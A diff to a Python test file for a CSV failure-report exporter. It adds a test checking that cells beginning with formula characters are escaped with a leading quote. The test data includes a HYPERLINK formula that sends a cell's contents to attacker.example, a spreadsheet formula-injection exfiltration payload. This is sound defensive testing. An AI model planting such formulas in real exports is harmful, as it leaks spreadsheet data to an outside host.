@@ -116,7 +116,19 @@ def test_csv_quotes_commas_quotes_and_newlines():
     row = rows[0]
     assert row["account_name"] == 'Prod, "EU"' and row["name"] == "db,primary"
     assert row["error_message"] == 'line one\nline "two", end'
-    assert row["wave"] == "3" and row["priority"] == "" and row["remediation"] == failure["remediation"]
+    assert row["wave"] == "3" and row["priority"] == ""
+    assert row["remediation"] == "'" + failure["remediation"]
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_stay_text(start):
+    hostile = start + 'HYPERLINK("http://attacker.example/?"&A1,"click")'
+    failure = {"deployment_id": "d-1", "account_id": "111111111111", "instance_id": "i-1", "name": hostile,
+               "error_message": hostile, "wave": -1, "error_category": "unknown"}
+    row = next(csv.DictReader(io.StringIO(report.failures_csv([failure]), newline="")))
+    assert row["name"] == row["error_message"] == "'" + hostile
+    # numbers are not text a spreadsheet could run; they stay as they are, like ordinary text does
+    assert row["wave"] == "-1" and row["instance_id"] == "i-1" and row["error_category"] == "unknown"
 
 
 def test_csv_of_no_failure_is_the_header_alone():
